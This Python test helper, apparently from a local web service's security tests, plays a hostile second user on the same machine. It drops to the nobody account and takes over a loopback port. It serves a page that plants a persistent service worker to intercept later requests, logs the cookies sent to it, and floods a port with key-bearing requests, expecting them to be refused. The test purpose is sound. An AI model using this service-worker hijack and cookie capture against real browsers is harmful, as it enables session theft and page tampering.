"""Another user of the machine: one who has the page's port, and one who brings its key. Tests must run as root for it.

`squatter.py serve PORT` shows a page that leaves a worker in the browser, which answers in its place from then on, and
prints the cookies that it is sent. `squatter.py hurry PORT HOST KEY` asks with the key and closes at once.
"""

from __future__ import annotations

import encodings.idna  # what is loaded now need not be read as another user  # noqa: F401
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socket import AF_INET6, create_connection
from threading import Thread
from typing import Final

OTHER_UID: Final = 65534
CAN_BE_ANOTHER: Final = os.geteuid() == 0
TITLE: Final = "Theirs"
HURRIES: Final = 40
_BODIES: Final = {
    "html": f"""<!doctype html><title>{TITLE}</title><h1>{TITLE}</h1><script>
        navigator.serviceWorker.register("worker.js").then(() => navigator.serviceWorker.ready)
            .then(() => {{ document.title = "planted"; }});
        </script>""",
    "javascript": f"""
        self.addEventListener("install", () => self.skipWaiting());
        self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
        self.addEventListener("fetch", (event) => event.respondWith((async () => {{
            const options = {{ credentials: "include", cache: "no-store" }};
            const got = await (await fetch(event.request.url, options)).text();
            const page = `<!doctype html><title>{TITLE}</title><h1>{TITLE}</h1><pre>${{encodeURIComponent(got)}}</pre>`;
            return new Response(page, {{ headers: {{ "Content-Type": "text/html" }} }});
        }})()));""",
}


@contextmanager
def squatting(port: int) -> Iterator[list[str]]:
    """Another user has `port` while the block lasts. Yields a list that has the cookies they were sent, in the end."""
    command = (sys.executable, __file__, "serve", str(port))
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        cookies: list[str] = []
        try:
            assert process.stdout.readline() == "listening\n"
            yield cookies
        finally:
            process.kill()
            cookies += process.stdout.read().splitlines()


def hurry(port: int, host: str, key: str) -> None:
    """Another user asks with the key, and closes each connection at once; the last one waits, and prints the answer."""
    command = (sys.executable, __file__, "hurry", str(port), host, key)
    assert "403" in subprocess.check_output(command, text=True)


class _Server(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        kind = "javascript" if self.path.endswith(".js") else "html"
        print(self.headers.get("Cookie", ""), flush=True)
        self.send_response(200)
        self.send_header("Content-Type", f"text/{kind}")
        self.send_header("Cache-Control", "max-age=86400")
        self.end_headers()
        self.wfile.write(_BODIES[kind].encode())

    def log_message(self, *_: object) -> None:
        pass


class _Server6(ThreadingHTTPServer):
    address_family = AF_INET6


def _serve(port: int) -> None:
    servers = (ThreadingHTTPServer(("127.0.0.1", port), _Server), _Server6(("::1", port), _Server))
    print("listening", flush=True)
    for server in servers:
        Thread(target=server.serve_forever).start()


def _hurry(port: int, host: str, key: str) -> None:
    asked = f"GET /ui/?key={key} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
    for _ in range(HURRIES):
        with create_connection(("127.0.0.1", port)) as connection:
            connection.sendall(asked)
    with create_connection(("::1", port)) as connection:
        connection.sendall(asked)
        print(connection.recv(4096).decode())


if __name__ == "__main__":
    os.setgroups([])
    os.setresgid(OTHER_UID, OTHER_UID, OTHER_UID)
    os.setresuid(OTHER_UID, OTHER_UID, OTHER_UID)
    if sys.argv[1] == "serve":
        _serve(int(sys.argv[2]))
    else:
        _hurry(int(sys.argv[2]), *sys.argv[3:])
